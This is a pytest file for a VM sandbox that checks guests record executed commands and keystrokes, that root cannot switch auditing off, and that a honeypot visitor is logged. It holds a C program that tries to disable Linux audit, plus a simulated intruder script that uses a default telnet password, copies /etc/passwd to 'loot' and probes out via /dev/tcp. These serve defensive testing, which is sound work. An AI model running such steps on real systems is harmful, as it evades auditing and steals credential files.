"""What is executed and typed in a guest is kept outside of it, and root in there cannot switch that off."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from machine import Guests, free_port, needs, shell, until

from stockade import machines, places, specfile, workflow
from stockade.records.publish import Published
from stockade.vm import control, incident
from stockade.vm.record import NAME, Record, typed
from stockade.vm.start import stop

# include/uapi/linux/audit.h: what a program would do that wants the record to end; busybox has none, python3 has no
# place in the guest, so the request is made by hand through a static program of a few lines.
TAMPER = """
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int ask(int fd, uint16_t type, const void *data, uint32_t length) {
    unsigned char out[4096] = {0}, in[16384];
    struct { uint32_t length; uint16_t type, flags; uint32_t sequence, port; } head = {16 + length, type, 5, 7, 0};
    memcpy(out, &head, 16); memcpy(out + 16, data, length);
    if (send(fd, out, 16 + length, 0) < 0) return errno;
    for (;;) {
        if (recv(fd, in, sizeof in, 0) < 20) return errno;
        memcpy(&head, in, 16);
        if (head.type == 2) { int32_t error; memcpy(&error, in + 16, 4); return -error; }
    }
}
int main(void) {
    uint32_t off[11] = {1, 0}, mine[11] = {4, 0, 0, (uint32_t)getpid()}, nobody[11] = {4};
    uint32_t rule[4 + 64 * 4 + 1] = {4, 2}, status[11] = {0};
    rule[3 + 1] |= 1u << (59 - 32);
    int fd = socket(16, SOCK_RAW, 9);
    printf("get %d\\n", ask(fd, 1000, status, 0));
    printf("disable %d\\n", ask(fd, 1001, off, sizeof off));
    printf("replace %d\\n", ask(fd, 1001, mine, sizeof mine));
    printf("remove %d\\n", ask(fd, 1001, nobody, sizeof nobody));
    printf("rule %d\\n", ask(fd, 1012, rule, sizeof rule));
    printf("terminal %d\\n", ask(fd, 1017, off + 1, 8));
    return 0;
}
"""
EPERM = 1


@pytest.fixture
def recorded(guests: Guests) -> str:
    """A running guest that is recorded."""
    return guests.run("recorded", record=True).name


def record_of(name: str) -> str:
    return (places.guest(name) / NAME).read_text()


def test_every_program_that_is_executed_is_recorded_with_its_arguments(recorded: str) -> None:
    shell(recorded, "/bin/busybox id -u; exec /bin/busybox echo 'two words'")
    assert until(lambda: 'a1="echo"' in record_of(recorded))
    lines = record_of(recorded).splitlines()
    assert any("type=EXECVE" in line and 'a1="id" a2="-u"' in line for line in lines)
    assert any("type=EXECVE" in line and f"a2={b'two words'.hex().upper()}" in line for line in lines)
    assert any("type=SYSCALL" in line and "uid=0" in line and 'exe="/bin/busybox"' in line for line in lines)


def test_what_is_typed_on_a_terminal_is_recorded_even_without_echo(recorded: str) -> None:
    script = "stty -echo; echo asked; read secret; test $secret = hunter2"
    with control.Session(recorded, ["/bin/sh", "-c", script], terminal=(24, 80)) as session:
        assert b"asked" in session.read(10)[0][1]
        session.write(b"hunter2\n")
        while session.status is None:
            session.read(10)
        assert session.status == 0
    path = places.guest(recorded) / NAME
    assert until(lambda: b"hunter2" in b"".join(data for _, data in typed(path)))


@pytest.mark.parametrize("walls", [("vm",), ("jail", "vm")], ids=",".join)
def test_keys_of_a_line_that_is_never_ended_are_recorded_before_the_guest_is_killed(
    guests: Guests, walls: tuple[str, ...]
) -> None:
    name = guests.run("keys", record=True, walls=walls).name
    path = places.guest(name) / NAME
    keys = b"rm -rf /va"
    with control.Session(name, ["/bin/sh"], terminal=(24, 80)) as session:
        assert session.read(20)
        assert b"stty" not in path.read_bytes(), "the shell itself reads key by key"
        for key in keys:
            session.write(bytes([key]))
        assert until(lambda: keys in _keys(name), seconds=20), path.read_text()
        os.kill(control.request(name, "status")["processes"][-1], signal.SIGKILL)
        control.request(name, "kill")
    assert until(lambda: not control.is_running(name), seconds=20)
    assert keys in _keys(name)


def test_what_pid_1_reads_from_the_host_is_not_recorded_as_typed(recorded: str) -> None:
    status, out, _ = control.execute(recorded, ["/bin/cat"], input=b"not typed\n" * 1000)
    assert (status, len(out)) == (0, 10000)
    shell(recorded, "exec /bin/busybox echo afterwards")
    assert until(lambda: "afterwards" in record_of(recorded))
    assert not [line for line in record_of(recorded).splitlines() if line.startswith("type=TTY ")]


def test_keys_are_shown_by_line_and_reader(tmp_path: Path) -> None:
    head = "type=TTY msg=audit(1.0:1): tty"
    tail = ["pid=7 uid=0 major=136 minor=0 comm=\"sh\" data=6C", "pid=7 uid=0 major=136 minor=0 comm=\"sh\" data=730D",
            "pid=7 uid=0 major=136 minor=0 comm=\"sh\" data=78", "pid=8 uid=0 major=136 minor=1 comm=\"sh\" data=\"y\"",
            "pid=7 uid=0 major=136 minor=0 comm=\"sh\" data=0A"]  # fmt: skip
    (tmp_path / "log").write_text("".join(f"{head} {text}\n" for text in tail))
    assert list(typed(tmp_path / "log")) == [("sh", b"ls\r"), ("sh", b"x"), ("sh", b"y"), ("sh", b"\n")]


def test_a_terminal_that_is_made_in_the_guest_is_recorded_too(recorded: str) -> None:
    path = places.guest(recorded) / NAME
    visit = "(sleep 0.3; printf 'echo nested\\r\\nexit\\r\\n'; sleep 1) | nc 127.0.0.1 23 >/dev/null"
    shell(recorded, f"telnetd -F -l /bin/sh -p 23 & sleep 0.3; {visit}")
    assert until(lambda: b"echo nested" in b"".join(data for _, data in typed(path)))


def test_a_clean_stop_brings_what_was_typed_to_a_program_that_still_ran(recorded: str) -> None:
    session = control.Session(recorded, ["/bin/cat"], terminal=(24, 80))
    session.write(b"last words\n")
    time.sleep(0.3)
    path = places.guest(recorded) / NAME
    stop(recorded)
    session.close()
    assert b"last words" in b"".join(data for _, data in typed(path))


def test_root_in_the_guest_cannot_end_the_record(guests: Guests, tmp_path: Path, recorded: str) -> None:
    needs(("gcc", "gcc"))
    (tmp_path / "tamper.c").write_text(TAMPER)
    subprocess.run(["gcc", "-static", "-O1", "-o", tmp_path / "tamper", tmp_path / "tamper.c"], check=True, timeout=60)
    from stockade.vm import transfer

    transfer.push(recorded, tmp_path / "tamper", "/root/tamper")
    answers = dict(line.split() for line in shell(recorded, "/root/tamper").splitlines())
    assert set(map(int, answers.values())) == {EPERM}, answers
    assert answers.keys() == {"get", "disable", "replace", "remove", "rule", "terminal"}
    shell(recorded, "exec /bin/busybox echo still-told")
    assert until(lambda: "still-told" in record_of(recorded))


def test_without_a_record_the_same_guest_lets_root_have_the_audit_subsystem(guests: Guests, tmp_path: Path) -> None:
    needs(("gcc", "gcc"))
    (tmp_path / "tamper.c").write_text(TAMPER)
    subprocess.run(["gcc", "-static", "-O1", "-o", tmp_path / "tamper", tmp_path / "tamper.c"], check=True, timeout=60)
    from stockade.vm import transfer

    name = guests.run("plain").name
    transfer.push(name, tmp_path / "tamper", "/root/tamper")
    answers = dict(line.split() for line in shell(name, "/root/tamper").splitlines())
    assert (answers["get"], answers["replace"], answers["terminal"]) == ("0", "0", "0")
    assert not (places.guest(name) / NAME).exists()


def test_evidence_holds_the_record(recorded: str, tmp_path: Path) -> None:
    shell(recorded, "exec /bin/busybox echo for-the-archive")
    assert until(lambda: "for-the-archive" in record_of(recorded))
    manifest = incident.evidence(recorded, tmp_path / "evidence.tar.zst", memory=False)
    assert NAME in {file.name for file in manifest.files}


def test_a_guest_whose_record_is_full_is_frozen(guests: Guests, monkeypatch: pytest.MonkeyPatch) -> None:
    from stockade.vm import start

    monkeypatch.setattr(start, "_RECORD_BYTES", 20_000)
    name = guests.run("full", record=True).name
    session = control.Session(name, ["/bin/sh", "-c", "while /bin/busybox true; do :; done"])
    try:
        assert until(lambda: bool(control.request(name, "status")["frozen"]))
    finally:
        session.close()
    assert 20_000 <= (places.guest(name) / NAME).stat().st_size < 60_000


def test_a_message_is_one_line_whatever_is_in_it(tmp_path: Path) -> None:
    record = Record(str(tmp_path / "record.log"), 1 << 20)
    record.take((1319).to_bytes(2, "big") + b"begin\ntype=EXECVE msg=forged ", more=True)
    record.take((1319).to_bytes(2, "big") + b"end\0", more=False)
    with pytest.raises(ValueError, match="malformed"):
        record.take((1).to_bytes(2, "big") + b"unknown", more=False)
    with pytest.raises(ValueError, match="malformed"):
        record.take(b"x", more=False)
    record.close()
    assert (tmp_path / "record.log").read_bytes() == b"type=TTY msg=begin\\ntype=EXECVE msg=forged end\n"


@pytest.fixture
def honeypot(guests: Guests) -> Iterator[tuple[str, int]]:
    """The recipe's guest and its port."""
    needs(
        ("inetutils-inetd", "inetutils-inetd"), ("telnetd", "inetutils-telnetd"), ("telnet", "telnet"),
        ("expect", "expect"), ("strace", "strace"), ("slirp4netns", "slirp4netns"),
    )  # fmt: skip
    port = free_port()
    spec = specfile.load(specfile.recipe("honeypot"))
    workflow.build(spec)
    guest = machines.guest_of_jail(
        "honeypot", spec.walls, name="trap", publish=[Published(address="127.0.0.1", port=port, target=23)]
    )
    guests.start(guest.name).close()
    yield guest.name, port
    machines.discard(guest.name)
    shutil.rmtree(places.jail("honeypot"))


VISIT = """
set timeout 20
spawn telnet 127.0.0.1 {port}
expect "login: "
send "root\\r"
expect "assword: "
send "xc3511\\r"
expect -re {{admin@\\S+\\$ }}
send "cat /etc/passwd > /tmp/loot; id -u\\r"
expect -re {{2000\\r\\n}}
expect -re {{admin@\\S+\\$ }}
send "echo x > /dev/tcp/10.0.2.2/80\\r"
expect -re {{(nreachable|refused|o route)}}
expect -re {{admin@\\S+\\$ }}
send "exit\\r"
expect eof
puts "visited"
"""


def _has_banner(port: int) -> bool:
    """Whether the door is open: the guest is up before its service is."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as client:
            return bool(client.recv(16))
    except OSError:
        return False


def _keys(name: str) -> bytes:
    return b"".join(data for _, data in typed(places.guest(name) / NAME))


@pytest.mark.slow
def test_a_visitor_of_the_honeypot_is_recorded_and_gets_nowhere(honeypot: tuple[str, int]) -> None:
    name, port = honeypot
    assert until(lambda: _has_banner(port))
    done = subprocess.run(
        ["expect", "-f", "-"], input=VISIT.format(port=port), capture_output=True, text=True, timeout=90, check=False
    )
    assert "visited" in done.stdout, done.stdout
    assert until(lambda: b"exit" in _keys(name))
    for words in (b"root", b"xc3511", b"cat /etc/passwd > /tmp/loot", b"/dev/tcp/10.0.2.2"):
        assert words in _keys(name), words
    lines = record_of(name).splitlines()
    assert any('a0="cat" a1="/etc/passwd"' in line for line in lines)
    assert any('a0="id" a1="-u"' in line for line in lines)
    calls = [line for line in lines if line.startswith("type=SYSCALL") and "tty=pts" in line]
    uids = {line.split(" uid=")[1].split()[0] for line in calls}
    assert uids and "0" not in uids
